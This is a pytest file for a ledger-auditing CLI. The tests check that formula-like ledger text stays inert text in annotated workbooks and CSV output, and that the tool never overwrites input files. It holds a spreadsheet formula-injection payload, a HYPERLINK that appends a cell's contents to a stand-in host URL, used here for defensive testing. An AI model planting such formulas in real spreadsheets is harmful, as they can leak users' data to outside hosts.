"""Reports never run ledger text as a formula and are never written over an input."""

from __future__ import annotations

from pathlib import Path

from click.testing import CliRunner
from openpyxl import load_workbook

from ledgercheck.cli import main
from tests.conftest import SAMPLE_AS_OF
from tests.malformed.generate import MEETING_HEADER, MEETING_ROWS, ORG_HEADER, ORG_ROW, _book, _sheets, valid

INJECTION = '=HYPERLINK("http://example.invalid/?"&A1,"点击")'


def test_formula_like_ledger_text_stays_text_in_the_findings_sheet(tmp_path: Path) -> None:
    ledger = tmp_path / "ledger.xlsx"
    org = list(ORG_ROW)
    org[1] = INJECTION  # the organization's name, echoed in every finding about it
    meetings = [MEETING_HEADER, *[list(r) for r in MEETING_ROWS], ["B01", "+SUM(1,2)", "2025-06-10", 3, 3]]
    book = _book(_sheets(组织=[ORG_HEADER, org], 组织生活=meetings))
    book["组织"]["B2"].data_type = "s"  # text that looks like a formula, as a hostile ledger would hold it
    book.save(ledger)
    copy = tmp_path / "marked.xlsx"
    result = CliRunner().invoke(main, ["audit", str(ledger), "--as-of", SAMPLE_AS_OF, "--no-config",
                                       "--annotate", str(copy), "--fail-on", "never"])
    assert result.exit_code == 0, result.output
    sheet = load_workbook(copy).worksheets[0]
    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and INJECTION in c.value]
    assert cells
    for cell in cells:
        assert cell.data_type == "s"
        if cell.value.startswith("="):
            assert cell.quotePrefix
    csv = CliRunner().invoke(main, ["audit", str(ledger), "--as-of", SAMPLE_AS_OF, "--no-config", "--format", "csv"])
    assert f",'{INJECTION[:10]}" in csv.stdout.replace('"', "") or "'=HYPERLINK" in csv.stdout


def test_scan_output_never_replaces_a_scanned_workbook(tmp_path: Path) -> None:
    folder = tmp_path / "units"
    folder.mkdir()
    ledger = folder / "a.xlsx"
    valid(ledger)
    before = ledger.read_bytes()
    result = CliRunner().invoke(main, ["scan", str(folder), "--quiet", "--jobs", "1", "-o", str(ledger)])
    assert result.exit_code == 2 and "--output" in result.stderr
    assert ledger.read_bytes() == before


def test_the_marked_up_copy_never_replaces_the_ledger(tmp_path: Path) -> None:
    ledger = tmp_path / "a.xlsx"
    valid(ledger)
    before = ledger.read_bytes()
    result = CliRunner().invoke(main, ["audit", str(ledger), "--annotate", str(tmp_path / "." / "a.xlsx")])
    assert result.exit_code == 2 and ledger.read_bytes() == before
